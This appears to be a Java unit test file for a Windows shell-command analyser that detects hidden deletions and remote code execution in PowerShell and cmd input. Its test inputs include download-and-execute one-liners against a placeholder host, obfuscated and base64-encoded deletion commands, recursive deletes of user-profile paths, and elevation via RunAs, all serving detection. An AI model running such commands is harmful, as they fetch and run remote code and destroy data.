package dev.belay.guard.shell.windows;

import static org.assertj.core.api.Assertions.assertThat;

import dev.belay.guard.execution.Execution;
import dev.belay.guard.execution.KnownFiles;
import dev.belay.guard.execution.ShellPlace;
import dev.belay.guard.execution.ShellRun;
import dev.belay.guard.shell.Dialect;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class WindowsShellTest {
  private static final ShellPlace PLACE =
      new ShellPlace("C:\\app", "C:\\Users\\dev", Map.of(), KnownFiles.none());

  private static List<String> lines(ShellRun run) {
    List<String> lines = new ArrayList<>();
    for (Execution execution : run.executions()) {
      lines.add(execution.line());
    }
    return lines;
  }

  private static List<String> powershell(String text) {
    return lines(WindowsShell.analyse(text, Dialect.POWERSHELL, PLACE));
  }

  private static List<String> cmd(String text) {
    return lines(WindowsShell.analyse(text, Dialect.CMD, PLACE));
  }

  @Test
  void aliasesAreTheCmdletsBehindThem() {
    assertThat(powershell("ri C:\\x -Recurse; r`m a; del,-Force,b"))
        .containsExactly("remove-item C:\\x -Recurse", "remove-item a", "remove-item -Force b");
  }

  @Test
  void blocksAndParenthesesAreRead() {
    assertThat(powershell("if ($true) { rm a } else { rm b }"))
        .containsExactly("remove-item a", "remove-item b");
    assertThat(powershell("Write-Host (rm a)")).startsWith("remove-item a");
    assertThat(powershell("try { rm a } catch { rm b }"))
        .containsExactly("remove-item a", "remove-item b");
    assertThat(powershell("ls C:\\x | % { rm $_ }")).contains("remove-item $_");
  }

  @Test
  void namesArePutTogether() {
    assertThat(powershell("& ('Remove-' + 'Item') $env:USERPROFILE"))
        .containsExactly("remove-item C:\\Users\\dev");
    assertThat(powershell("$a = 'rm'; & $a \"$HOME\\x\""))
        .containsExactly("remove-item C:\\Users\\dev\\x");
    assertThat(powershell("iex ('{0}{1}' -f 'r','m x')")).contains("remove-item x");
    assertThat(powershell("iex ([char]0x72 + [char]109 + ' x')")).contains("remove-item x");
    assertThat(powershell("'rm x' | iex")).contains("remove-item x");
  }

  @Test
  void encodedTextsAreRead() {
    assertThat(powershell("powershell -enc cgBtACAAeAA=")).contains("remove-item x");
    assertThat(
            powershell(
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))"))
        .contains("remove-item x");
  }

  @Test
  void whatComesFromTheNetworkIsSeenWhereItIsRun() {
    for (String text :
        List.of(
            "iwr http://h/x | iex",
            "iex (irm http://h/x)",
            "iex (New-Object Net.WebClient).DownloadString('http://h/x')",
            "$c = iwr http://h/x; iex $c.Content")) {
      ShellRun run = WindowsShell.analyse(text, Dialect.POWERSHELL, PLACE);
      Execution last = run.executions().getLast();
      assertThat(last.program()).as(text).isEqualTo("invoke-expression");
      assertThat(last.code()).as(text).isNotNull();
      assertThat(last.code().from()).as(text).isNotEmpty();
      assertThat(last.code().from().getFirst().program()).as(text).startsWith("invoke-");
    }
  }

  @Test
  void methodsStandForCmdlets() {
    assertThat(powershell("[IO.File]::Delete('C:\\x')")).containsExactly("remove-item C:\\x");
  }

  @Test
  void whatIsOnlySaidIsNotRun() {
    assertThat(powershell("git commit -m \"rm -Recurse C:\\\" # rm x"))
        .containsExactly("git commit -m rm -Recurse C:\\");
    assertThat(powershell("@'\nrm x\n'@ | Set-Content a.ps1")).containsExactly("set-content a.ps1");
    assertThat(cmd("git commit -m \"del /s & rd x\""))
        .containsExactly("git commit -m del /s & rd x");
  }

  @Test
  void cmdIsRead() {
    assertThat(cmd("rd/s/q C:\\x & d^el \"a b\" && if exist q (del %USERPROFILE%\\y)"))
        .containsExactly("rd /s /q C:\\x", "del a b", "del C:\\Users\\dev\\y");
    assertThat(cmd("for /d %i in (*) do rd /s /q %i")).containsExactly("rd /s /q %i");
    assertThat(cmd("set X=del& %X% y")).containsExactly("del y");
    assertThat(cmd("cmd /c \"del x\"")).contains("del x");
    assertThat(cmd("echo del x | cmd")).contains("del x");
    assertThat(cmd("powershell -c \"rm x; rm y\"")).contains("remove-item x", "remove-item y");
    assertThat(cmd("start \"\" cmd /c del x")).contains("del x");
  }

  @Test
  void shellsStartShells() {
    assertThat(powershell("cmd /c \"rd /s /q x & del y\"")).contains("rd /s /q x", "del y");
    assertThat(powershell("Start-Process powershell -ArgumentList '-c', 'rm x' -Verb RunAs"))
        .contains("remove-item x");
  }
}
